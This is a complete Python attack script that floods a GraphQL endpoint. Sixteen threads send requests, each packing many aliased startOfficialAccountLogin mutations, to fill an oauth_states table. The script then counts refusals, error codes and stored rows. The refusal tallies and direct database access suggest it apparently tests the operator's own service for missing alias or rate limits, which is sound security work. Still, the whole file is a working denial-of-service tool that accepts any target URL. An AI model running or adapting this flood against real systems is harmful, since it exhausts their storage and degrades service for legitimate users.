"""State-table flood: threads send aliased startOfficialAccountLogin requests for a while,
then print how many rows oauth_states holds. Usage: attack.py URL ALIASES SECONDS DBURL"""
import json, subprocess, sys, threading, time, urllib.request
url, aliases, seconds, db = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
fields = " ".join(f'u{i}: startOfficialAccountLogin(input: {{appId: "wxsandboxofficial1", redirectUri: "https://h5.example.com/"}}) {{ expiresAt }}' for i in range(aliases))
body = json.dumps({"query": "mutation { %s }" % fields}).encode()
stats = {"ok": 0, "refused": 0, "codes": {}}
lock = threading.Lock()
end = time.time() + seconds
def run():
    while time.time() < end:
        req = urllib.request.Request(url, data=body, headers={"content-type": "application/json"})
        try:
            with urllib.request.urlopen(req, timeout=10) as r:
                out = json.load(r)
        except urllib.error.HTTPError as e:
            out = json.load(e)
        errs = out.get("errors")
        with lock:
            if errs:
                stats["refused"] += 1
                c = errs[0].get("extensions", {}).get("code")
                stats["codes"][c] = stats["codes"].get(c, 0) + 1
            else:
                stats["ok"] += 1
ts = [threading.Thread(target=run) for _ in range(16)]
[t.start() for t in ts]; [t.join() for t in ts]
rows = subprocess.run(["psql", db, "-Atc", "SELECT COUNT(*) FROM oauth_states"], capture_output=True, text=True).stdout.strip()
print(f"aliases={aliases} seconds={seconds} requests_ok={stats['ok']} refused={stats['refused']} {stats['codes']} oauth_states_rows={rows}")
